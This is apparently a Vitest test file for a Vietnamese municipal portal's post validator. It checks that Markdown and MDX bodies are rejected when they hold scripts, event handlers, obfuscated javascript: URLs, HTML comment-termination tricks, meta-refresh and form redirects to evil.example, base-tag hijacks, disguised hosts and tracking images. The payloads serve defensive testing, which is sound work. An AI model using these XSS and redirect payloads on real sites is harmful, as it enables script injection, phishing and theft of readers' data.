import { describe, expect, it } from 'vitest';
import { checkPostBody, type BodyCheckContext } from '../../src/lib/posts/body-check.ts';
import { scanHtml, positionAt } from '../../src/lib/posts/html-scan.ts';
import { explainMdxReason, splitPostFrontmatter } from '../../src/lib/posts/parse-body.ts';
import { classifyUrl, resolvePostAsset } from '../../src/lib/posts/urls.ts';

const FILE = 'content/posts/phuong-tran-phu/2024-03-05-bai.md';
const context = (format: 'md' | 'mdx' = 'md'): BodyCheckContext => ({
  file: FILE,
  format,
  unitFolder: 'phuong-tran-phu',
  folderLabel: 'content/posts/phuong-tran-phu',
  assetExists: (path) => ['phuong-tran-phu/anh-hop.jpg', 'phuong-tran-phu/anh/tap-huan.png'].includes(path),
  indicatorExists: (id) => ['1.4', '4.1', '8.1'].includes(id),
});
/** The first problem found, as "line:column message". */
const firstProblem = (body: string, format: 'md' | 'mdx' = 'md') => {
  const [issue] = checkPostBody(body, context(format));
  return issue ? `${issue.line}:${issue.column} ${issue.message}` : undefined;
};

describe('classifyUrl: as a browser reads the address', () => {
  it.each([
    ['https://dichvucong.gov.vn', 'web'],
    ['HTTP://example.vn', 'web'],
    ['./anh-hội-nghị.jpg', 'relative'],
    ['/chi-so/1-4/', 'relative'],
    ['#muc-1', 'fragment'],
    ['mailto:lienhe@bacgiang.gov.vn', 'mailto'],
    ['tel:02043854321', 'tel'],
    ['javascript:alert(1)', 'javascript'],
    [' JaVaScRiPt:alert(1)', 'javascript'],
    ['java\tscript:alert(1)', 'javascript'],
    ['java\nscript:alert(1)', 'javascript'],
    ['data:image/png;base64,AAAA', 'data'],
    ['vbscript:msgbox', 'other-scheme'],
    ['//tracker.example/p.gif', 'protocol-relative'],
    ['\\\\tracker.example/p.gif', 'protocol-relative'],
    ['/\\tracker.example/p.gif', 'protocol-relative'],
    ['/\t/tracker.example/p.gif', 'protocol-relative'],
    ['\\/tracker.example/p.gif', 'protocol-relative'],
    ['/chi-so/\\1-4/', 'relative'],
  ] as const)('%j → %s', (url, kind) => {
    expect(classifyUrl(url)).toBe(kind);
  });

  it.each([
    ['./anh-hop.jpg', 'phuong-tran-phu/anh-hop.jpg'],
    ['anh/tap-huan.png', 'phuong-tran-phu/anh/tap-huan.png'],
    ['./anh%20h%E1%BB%8Dp.jpg', 'phuong-tran-phu/anh họp.jpg'],
    ['../xa-song-mai/anh.jpg', undefined],
    ['/anh.jpg', undefined],
    ['./', undefined],
  ])('resolves %j inside the unit folder only', (url, resolved) => {
    expect(resolvePostAsset('phuong-tran-phu', url)).toBe(resolved);
  });
});

describe('scanHtml: tokenized by parse5 as a browser does', () => {
  const summary = (html: string) =>
    scanHtml(html).map((token) => (token.type === 'tag' ? `${token.closing ? '/' : ''}${token.name}` : token.type === 'comment' ? `comment:${token.kind}:${token.source}` : `${token.type}:${token.source}`));

  it('reads names, attributes decoded by the tokenizer, and offsets', () => {
    expect(scanHtml('<abbr title="Chuyển đổi số">CĐS</abbr>')).toEqual([
      { type: 'tag', offset: 0, name: 'abbr', closing: false, attributes: [{ name: 'title', value: 'Chuyển đổi số' }] },
      { type: 'tag', offset: 31, name: 'abbr', closing: true, attributes: [] },
    ]);
  });

  it.each([
    // Where the browser ends the comment, and the attack that follows it is a live tag.
    ['<!--> <meta http-equiv="refresh" content="0;url=https://evil.example">', ['comment:comment:<!-->', 'meta']],
    ['<!---> <base href="https://evil.example/">', ['comment:comment:<!--->', 'base']],
    ['<!-- a --!> <form action="https://evil.example/">', ['comment:comment:<!-- a --!>', 'form']],
    ['<!-- <!-- --> <link rel="stylesheet" href="https://evil.example/x.css">', ['comment:comment:<!-- <!-- -->', 'link']],
    ['<![CDATA[ x ]]><iframe src="https://evil.example/">', ['comment:cdata:<![CDATA[ x ]]>', 'iframe']],
    ['<?xml version="1.0"?><embed src="https://evil.example/x">', ['comment:processing-instruction:<?xml version="1.0"?>', 'embed']],
    ['</ x><object data="https://evil.example/x">', ['comment:bogus-end-tag:</ x>', 'object']],
    ['<!x><svg onload=alert(1)>', ['comment:declaration:<!x>', 'svg']],
    // "-- >" does not end a comment: everything to the next "-->" is inside it.
    ['<!-- a -- > <script>x</script> -->', ['comment:comment:<!-- a -- > <script>x</script> -->']],
    ['<!--[if IE]><script>alert(1)</script><![endif]-->', ['comment:comment:<!--[if IE]><script>alert(1)</script><![endif]-->']],
    ['<!-- [html-validate-disable-next] --><meta http-equiv="refresh" content="0;url=https://evil.example">', ['comment:comment:<!-- [html-validate-disable-next] -->', 'meta']],
    ['<!DOCTYPE html>', ['doctype:<!DOCTYPE html>']],
    // An unfinished tag at the end would swallow what comes after it.
    ['chữ <b title="x', ['unfinished:<b title="x']],
    ['a < b <b title="x', ['unfinished:<b title="x']],
    ['<!-- chưa đóng', ['comment:comment:<!-- chưa đóng']],
    // After <style> the text is raw: no tags until </style>, as in the browser.
    ['<style><!--</style><b>-->', ['style', '/style', 'b']],
    // SVG CDATA sections are not comments inside <svg>; <svg> is refused anyway.
    ['<svg><![CDATA[</svg><img src=x onerror=alert(1)>]]></svg>', ['svg', '/svg']],
  ])('%j', (html, expected) => {
    expect(summary(html)).toEqual(expected);
  });

  it.each([
    ['<a href="jav&#x61;script&colon;alert(1)">', 'javascript:alert(1)'],
    ['<a href="&#106;avascript:x">', 'javascript:x'],
    ['<a href=&#x6A;&#x61;vascript:x>', 'javascript:x'],
    ['<a href="java&Tab;script:x">', 'java\tscript:x'],
    ['<abbr title="Chuyển đổi số &amp; đời sống">', 'Chuyển đổi số & đời sống'],
    ['<abbr title="&notit;">', '&notit;'], // no semicolon-less reference in an attribute when a letter follows
  ])('decodes %j as the browser does', (html, value) => {
    const [token] = scanHtml(html);
    expect(token?.type === 'tag' && token.attributes[0]?.value).toBe(value);
  });

  it('locates an offset by line and column', () => {
    expect(positionAt('a\nb\n<script>', 4, { line: 5, column: 3 })).toEqual({ line: 7, column: 1 });
    expect(positionAt('chữ <b>', 4, { line: 2, column: 3 })).toEqual({ line: 2, column: 7 });
  });
});

describe('checkPostBody: one rule at a time, with the line', () => {
  it.each([
    // [body (frontmatter already blanked: 3 lines), expected first problem]
    ['\n\n\n<script>alert(1)</script>', '4:1 có thẻ <script>: bài viết không được chứa mã chạy trên trang'],
    ['\n\n\nĐoạn văn.\n\n<script\nsrc="x">', '6:1 có thẻ <script>: bài viết không được chứa mã chạy trên trang'],
    ['\n\n\n<iframe src="https://www.youtube.com/embed/x"></iframe>', '4:1 có thẻ <iframe>: bài viết không được nhúng trang web khác'],
    ['\n\n\n<style>body{display:none}</style>', '4:1 có thẻ <style>: bài viết không được thay đổi giao diện của cổng'],
    ['\n\n\n<object data="x.swf"></object>', '4:1 có thẻ <object>: bài viết không được nhúng tệp hay chương trình'],
    ['\n\n\nChỉ số<sup onclick="alert(1)">1</sup>', '4:7 thẻ <sup> có thuộc tính "onclick": thuộc tính on… chạy mã JavaScript'],
    ['\n\n\n| Cột | Cột |\n| --- | --- |\n| <img src=x onerror=alert(1)> | 2 |', '6:3 thẻ <img> có thuộc tính "onerror": thuộc tính on… chạy mã JavaScript'],
    ['\n\n\n[Bấm](javascript:alert(1))', '4:1 địa chỉ "javascript:alert(1)" chạy mã JavaScript khi được mở'],
    ['\n\n\n[Bấm](jav&#x61;script:alert(1))', '4:1 địa chỉ "javascript:alert(1)" chạy mã JavaScript khi được mở'],
    ['\n\n\n[Bấm][x]\n\n[x]: javascript:alert(1)', '6:1 địa chỉ "javascript:alert(1)" chạy mã JavaScript khi được mở'],
    ['\n\n\n<javascript:alert(1)>', '4:1 địa chỉ "javascript:alert(1)" chạy mã JavaScript khi được mở'],
    ['\n\n\n[Tệp](data:text/html;base64,PHNjcmlwdD4=)', '4:1 địa chỉ "data:text/html;base64,PHNjcmlwdD4=" nhúng dữ liệu thẳng vào bài (data:)'],
    ['\n\n\n![Ảnh](data:image/png;base64,AAAA)', '4:1 địa chỉ "data:image/png;base64,AAAA" nhúng dữ liệu thẳng vào bài (data:)'],
    ['\n\n\n![Ảnh](https://tracker.example/p.png)', '4:1 ảnh lấy từ máy chủ khác "https://tracker.example/p.png": ảnh từ nơi khác cho phép bên ngoài theo dõi người đọc'],
    ['\n\n\n![Ảnh](//tracker.example/p.png)', '4:1 ảnh lấy từ máy chủ khác "//tracker.example/p.png": ảnh từ nơi khác cho phép bên ngoài theo dõi người đọc'],
    ['\n\n\n![Ảnh][p]\n\n[p]: https://tracker.example/p.png', '4:1 ảnh lấy từ máy chủ khác "https://tracker.example/p.png": ảnh từ nơi khác cho phép bên ngoài theo dõi người đọc'],
    ['\n\n\n<img src="https://tracker.example/p.png" alt="">', '4:1 ảnh lấy từ máy chủ khác "https://tracker.example/p.png": ảnh từ nơi khác cho phép bên ngoài theo dõi người đọc'],
    ['\n\n\n![Ảnh](./khong-co.jpg)', '4:1 không tìm thấy tệp ảnh "./khong-co.jpg"'],
    ['\n\n\n![Ảnh](../xa-song-mai/anh.jpg)', '4:1 ảnh "../xa-song-mai/anh.jpg" nằm ngoài thư mục của đơn vị'],
    ['\n\n\n![Biểu đồ](./bieu-do.svg)', '4:1 ảnh "./bieu-do.svg" có định dạng không được hỗ trợ (tệp SVG có thể chứa mã)'],
    ['\n\n\n![](./anh-hop.jpg)', '4:1 ảnh "./anh-hop.jpg" thiếu mô tả (alt) cho người không xem được ảnh'],
    ['\n\n\n<div class="x">Khối</div>', '4:1 thẻ HTML <div> không được hỗ trợ trong bài viết'],
    ['\n\n\n<abbr style="color:red" title="Chuyển đổi số">CĐS</abbr>', '4:1 thẻ <abbr> có thuộc tính "style" không được hỗ trợ'],
    ['\n\n\n[Tệp](vbscript:msgbox)', '4:1 địa chỉ "vbscript:msgbox" dùng giao thức "vbscript:" không được hỗ trợ'],
  ])('.md %#: %j', (body, expected) => {
    expect(firstProblem(body)).toBe(expected);
  });

  const COMMENT = ': bài viết không được chứa chú thích, vì trình duyệt có thể kết thúc chú thích ở chỗ khác người viết nghĩ (ở <!-->, --!>…) và hiện phần sau lên trang';
  it.each([
    // Each comment trick is refused where it starts, and the attack behind it is refused too.
    ['<!--> <meta http-equiv="refresh" content="0;url=https://evil.example">', [`4:1 có chú thích HTML "<!-->"${COMMENT}`, '4:7 có thẻ <meta>: bài viết không được đổi thông tin của trang hay tự chuyển người đọc sang trang khác (http-equiv="refresh")']],
    ['<!---> <base href="https://evil.example/">', [`4:1 có chú thích HTML "<!--->"${COMMENT}`, '4:8 có thẻ <base>: thẻ này đổi đích của mọi liên kết trên trang']],
    ['<!-- x --!> <form action="https://evil.example/"><button>Gửi</button></form>', [`4:1 có chú thích HTML "<!-- x --!>"${COMMENT}`, '4:13 có thẻ <form>: bài viết không được có biểu mẫu gửi dữ liệu của người đọc đi nơi khác', '4:50 thẻ HTML <button> không được hỗ trợ trong bài viết']],
    ['<!-- x -- > <link rel="stylesheet" href="https://evil.example/x.css"> -->', [`4:1 có chú thích HTML "<!-- x -- > <link rel="stylesheet" href="https:…"${COMMENT}`]],
    ['<!-- <!-- --> <style>body{display:none}</style>', [`4:1 có chú thích HTML "<!-- <!-- -->"${COMMENT}`, '4:15 có thẻ <style>: bài viết không được thay đổi giao diện của cổng']],
    ['<!--[if IE]><script>alert(1)</script><![endif]-->', [`4:1 có chú thích HTML "<!--[if IE]><script>alert(1)</script><![endif]-…"${COMMENT}`]],
    ['<![CDATA[ x ]]><iframe src="https://evil.example/"></iframe>', [`4:1 có đoạn <![CDATA[…]]>, trình duyệt đọc như một chú thích HTML "<![CDATA[ x ]]>"${COMMENT}`, '4:16 có thẻ <iframe>: bài viết không được nhúng trang web khác']],
    ['<?xml version="1.0"?><embed src="https://evil.example/x.swf">', [`4:1 có khai báo <?…?>, trình duyệt đọc như một chú thích HTML "<?xml version="1.0"?>"${COMMENT}`, '4:22 có thẻ <embed>: bài viết không được nhúng tệp hay chương trình']],
    // Markdown leaves "</ x>" as text unless it is inside an HTML block.
    ['</ x><object data="https://evil.example/x"></object>', ['4:6 có thẻ <object>: bài viết không được nhúng tệp hay chương trình']],
    ['<details>\n</ x><object data="https://evil.example/x"></object>', [`5:1 có thẻ đóng sai dạng, trình duyệt đọc như một chú thích HTML "</ x>"${COMMENT}`, '5:6 có thẻ <object>: bài viết không được nhúng tệp hay chương trình']],
    ['<!x><svg onload="alert(1)"></svg>', [`4:1 có khai báo <!…>, trình duyệt đọc như một chú thích HTML "<!x>"${COMMENT}`, '4:5 có thẻ <svg>: hình SVG viết thẳng vào bài có thể chứa mã và làm trình duyệt đọc sai phần sau']],
    ['<!-- [html-validate-disable-next meta-refresh] -->\n<meta http-equiv="refresh" content="0;url=https://evil.example">', [`4:1 có chú thích HTML "<!-- [html-validate-disable-next meta-refresh] …" (chú thích này còn tắt bộ kiểm tra của cổng)${COMMENT}`, '5:1 có thẻ <meta>: bài viết không được đổi thông tin của trang hay tự chuyển người đọc sang trang khác (http-equiv="refresh")']],
    ['<details>\n<b title="x\n\nhết" onmouseover="alert(1)">', ['5:1 thẻ HTML "<b title="x" chưa đóng: thiếu dấu > hoặc dấu nháy đóng, nên phần viết sau đó có thể bị trình duyệt đọc thành thuộc tính của thẻ']],
  ])('.md refuses the comment trick %j and what follows it', (body, expected) => {
    expect(checkPostBody(`\n\n\n${body}`, context()).map((issue) => `${issue.line}:${issue.column} ${issue.message}`)).toEqual(expected);
  });

  it.each([
    ['<meta http-equiv="refresh" content="0 https://evil.example">', 'meta'],
    ['<base href="https://evil.example/">', 'base'],
    ['<form action="https://evil.example/"></form>', 'form'],
    ['<link rel="import" href="https://evil.example/">', 'link'],
    ['<embed src="x.swf">', 'embed'],
    ['<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>', 'math'],
    ['<template><script>alert(1)</script></template>', 'template'],
    ['<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>', 'noscript'],
    ['<frameset onload="alert(1)">', 'frameset'],
  ])('.md refuses %j with the element named', (body, name) => {
    const [issue] = checkPostBody(`\n\n\n${body}`, context());
    expect(issue?.message).toMatch(new RegExp(`^có thẻ <${name}>: `));
    expect(issue?.fix).toBeTruthy();
    expect([issue?.line, issue?.column]).toEqual([4, 1]);
  });

  it.each([
    ['<a href="jav&#x61;script&colon;alert(1)">x</a>', '4:1 địa chỉ "javascript:alert(1)" chạy mã JavaScript khi được mở'],
    ['<a href="java&Tab;script:alert(1)">x</a>', '4:1 địa chỉ "java script:alert(1)" chạy mã JavaScript khi được mở'],
    ['<a href="java&NewLine;script:alert(1)">x</a>', '4:1 địa chỉ "java script:alert(1)" chạy mã JavaScript khi được mở'],
    ['<a href=" &#14;javascript:alert(1)">x</a>', '4:1 địa chỉ "\u000ejavascript:alert(1)" chạy mã JavaScript khi được mở'],
    ['[Bấm](/\\evil.example/dang-nhap)', '4:1 địa chỉ "/\\evil.example/dang-nhap" trông như một đường dẫn trên cổng nhưng trình duyệt mở sang máy chủ khác "evil.example"'],
    ['[Bấm](//evil.example/)', '4:1 địa chỉ "//evil.example/" trông như một đường dẫn trên cổng nhưng trình duyệt mở sang máy chủ khác "evil.example"'],
    ['[Bấm](https:evil.example)', '4:1 địa chỉ "https:evil.example" thiếu hai dấu // sau "https:"'],
    ['[Bấm](https://dichvucong.gov.vn@evil.example/)', '4:1 địa chỉ "https://dichvucong.gov.vn@evil.example/" có phần đứng trước dấu @, nên thật ra dẫn tới máy chủ "evil.example"'],
    ['[Bấm](file:///etc/passwd)', '4:1 địa chỉ "file:///etc/passwd" dùng giao thức "file:" không được hỗ trợ'],
  ])('.md refuses the disguised address in %j', (body, expected) => {
    expect(firstProblem(`\n\n\n${body}`)).toBe(expected);
  });

  it.each([
    ["\n\n\nimport Tracker from './tracker.js'", '4:1 có lệnh import "import Tracker from \'./tracker.js\'": bài viết là nội dung, không được nạp mã hay thành phần từ nơi khác'],
    ['\n\n\nexport const meta = {}', '4:1 có lệnh export "export const meta = {}": bài viết là nội dung, không được khai báo mã'],
    ['\n\n\nHôm nay {new Date().getFullYear()}', '4:9 có biểu thức JavaScript "{new Date().getFullYear()}": bài viết không được chạy mã'],
    ['\n\n\n{/* ghi chú */}', '4:1 có biểu thức JavaScript "{/* ghi chú */}": bài viết không được chạy mã'],
    ['\n\n\n<Tracker />', '4:1 thành phần <Tracker> không có trong danh sách được phép'],
    ['\n\n\n<ui.Button />', '4:1 thành phần <ui.Button> không có trong danh sách được phép'],
    ['\n\n\n<script>{alert(1)}</script>', '4:1 có thẻ <script>: bài viết không được chứa mã chạy trên trang'],
    ['\n\n\n<Callout onClick="alert(1)">Chú ý</Callout>', '4:1 thẻ <Callout> có thuộc tính "onClick": thuộc tính on… chạy mã JavaScript'],
    ['\n\n\n<Callout type={kind}>Chú ý</Callout>', '4:1 thuộc tính "type" của <Callout> là biểu thức JavaScript "{kind}": bài viết không được chạy mã'],
    ['\n\n\n<Callout {...props}>Chú ý</Callout>', '4:1 thuộc tính của <Callout> là biểu thức JavaScript "{...props}": bài viết không được chạy mã'],
    ['\n\n\n<Callout type="danger">Chú ý</Callout>', '4:1 thuộc tính "type" của <Callout> phải là một trong: note, tip, warning (đang là "danger")'],
    ['\n\n\n<Callout color="red">Chú ý</Callout>', '4:1 thành phần <Callout> không có thuộc tính "color"'],
    ['\n\n\n<Figure>\n\n![Ảnh](./anh-hop.jpg)\n\n</Figure>', '4:1 thành phần <Figure> thiếu thuộc tính "caption"'],
    ['\n\n\nXem <IndicatorLink id="9.9" />', '4:5 không có chỉ số "9.9" trong Phụ lục'],
    ['\n\n\n<a href="javascript:alert(1)">Bấm</a>', '4:1 địa chỉ "javascript:alert(1)" chạy mã JavaScript khi được mở'],
    ['\n\n\n<a href="jav&#x61;script&colon;alert(1)">Bấm</a>', '4:1 địa chỉ "javascript:alert(1)" chạy mã JavaScript khi được mở'],
    ['\n\n\n<meta httpEquiv="refresh" content="0;url=https://evil.example" />', '4:1 có thẻ <meta>: bài viết không được đổi thông tin của trang hay tự chuyển người đọc sang trang khác (http-equiv="refresh")'],
    ['\n\n\n<base href="https://evil.example/" />', '4:1 có thẻ <base>: thẻ này đổi đích của mọi liên kết trên trang'],
    ['\n\n\n[Bấm](/\\evil.example/)', '4:1 địa chỉ "/\\evil.example/" trông như một đường dẫn trên cổng nhưng trình duyệt mở sang máy chủ khác "evil.example"'],
    ['\n\n\nMột dấu { chưa đóng', '4:20 sai cú pháp MDX (thiếu dấu } đóng cho một dấu { mở)'],
    ['\n\n\n<Callout>\nChưa đóng', '4:1 sai cú pháp MDX (thiếu thẻ đóng </Callout>)'],
    ['\n\n\n<!-- ghi chú -->', '4:2 sai cú pháp MDX (MDX không nhận chú thích dạng <!-- -->)'],
  ])('.mdx %#: %j', (body, expected) => {
    expect(firstProblem(body, 'mdx')).toBe(expected);
  });

  it.each([
    ['Markdown thường, **đậm**, *nghiêng*, [liên kết](https://dichvucong.gov.vn) và [thư](mailto:a@b.vn).', 'md'],
    ['| Phường | Số bài |\n| --- | --- |\n| Trần Phú | 21 |', 'md'],
    ['<abbr title="Chuyển đổi số">CĐS</abbr>, H<sub>2</sub>O, x<sup>2</sup>, <br>', 'md'],
    ['So sánh: 3 < 5 và a<b, &lt;script&gt; viết như chữ', 'md'],
    ['[Chỉ số 1.4](/chi-so/1-4/), [mục](#muc-1), [gọi](tel:02043854321), [trang](../chuyen-doi-so/)', 'md'],
    ['<details open><summary>Xem thêm</summary>Nội dung</details>', 'md'],
    ['![Hội nghị tập huấn](./anh-hop.jpg)\n\n![Lớp học](anh/tap-huan.png)', 'md'],
    ['Dấu ngoặc nhọn viết thường: \\{ và \\}.', 'mdx'],
    ['<Callout type="tip" title="Mẹo">Nội dung **đậm**</Callout>', 'mdx'],
    ['<Figure caption="Ảnh hội nghị">\n\n![Hội nghị](./anh-hop.jpg)\n\n</Figure>', 'mdx'],
    ['Xem <IndicatorLink id="1.4" /> và <IndicatorLink id="8.1">danh tính số</IndicatorLink>.', 'mdx'],
    ['Chữ <sup>1</sup> và <abbr title="Định danh">VNeID</abbr>', 'mdx'],
    ['Văn bản dạng NFD: Chuyển đổi số'.normalize('NFD'), 'md'],
  ] as const)('accepts %j (%s)', (body, format) => {
    expect(checkPostBody(body, context(format))).toEqual([]);
  });

  it('reports every problem of a file, not only the first', () => {
    const issues = checkPostBody('\n\n\n<script>x</script>\n\n![Ảnh](https://a.example/b.png)\n\n[x](javascript:y)', context());
    expect(issues.map((issue) => issue.line)).toEqual([4, 6, 8]);
    expect(issues.every((issue) => issue.file === FILE && issue.fix)).toBe(true);
  });

  it('gives a fix with an example for each rule', () => {
    const [issue] = checkPostBody('\n\n\n![Ảnh](https://tracker.example/p.png)', context());
    expect(issue?.fix).toBe(
      'tải ảnh về, đặt vào thư mục content/posts/phuong-tran-phu/ cạnh bài viết và dẫn tới tệp đó, ví dụ ![Cán bộ phường hướng dẫn người dân cài đặt VNeID](./anh-huong-dan-vneid.jpg)',
    );
  });
});

describe('splitPostFrontmatter: cut where Astro cuts', () => {
  it.each([
    ['---\ntitle: A\n---\n# B', { ok: true, yaml: '\ntitle: A\n', body: '\n\n\n# B' }],
    ['---\r\ntitle: A\r\n---\r\n# B', { ok: true, yaml: '\ntitle: A\r\n', body: '\n\n\n# B' }],
    ['# Không có phần đầu', { ok: false, line: 1 }],
    ['\n---\ntitle: A\n---\n', { ok: false, line: 1 }],
    ['---\ntitle: A\n---<script>\n---\n', { ok: false, line: 3 }],
    ['+++\ntitle = "A"\n+++\n', { ok: false, line: 1 }],
  ])('%j', (text, expected) => {
    expect(splitPostFrontmatter(text)).toMatchObject(expected);
  });

  it('explains MDX parser messages in Vietnamese, keeping unknown ones', () => {
    expect(explainMdxReason('Unexpected closing tag `</Callout>`, expected corresponding closing tag for `<b>`')).toBe('thẻ đóng </Callout> không có thẻ mở tương ứng');
    expect(explainMdxReason('Something new')).toBe('chi tiết kỹ thuật: Something new');
  });
});
